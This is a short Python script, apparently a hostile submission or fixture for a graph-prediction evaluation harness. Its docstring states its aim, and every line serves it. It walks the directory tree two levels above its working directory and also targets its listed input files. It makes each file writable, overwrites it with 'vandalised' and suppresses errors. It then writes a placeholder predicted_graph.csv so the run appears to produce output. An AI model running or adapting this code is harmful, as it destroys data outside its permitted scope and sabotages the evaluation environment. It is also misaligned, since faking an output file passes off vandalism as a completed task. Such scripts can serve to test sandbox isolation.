"""Overwrites every file it can reach above its working directory, then
writes an empty graph."""
import json
import os

with open("inputs.json") as f:
    inputs = json.load(f)
targets = list(inputs["inputs"].values())
for root, _, files in os.walk(os.path.abspath(os.path.join(os.getcwd(), "..", ".."))):
    targets.extend(os.path.join(root, n) for n in files)
for path in targets:
    try:
        os.chmod(path, 0o644)
        with open(path, "w") as f:
            f.write("vandalised\n")
    except OSError:
        pass
with open(os.path.join(inputs["output_dir"], "predicted_graph.csv"), "w") as f:
    f.write("x1\n0\n")
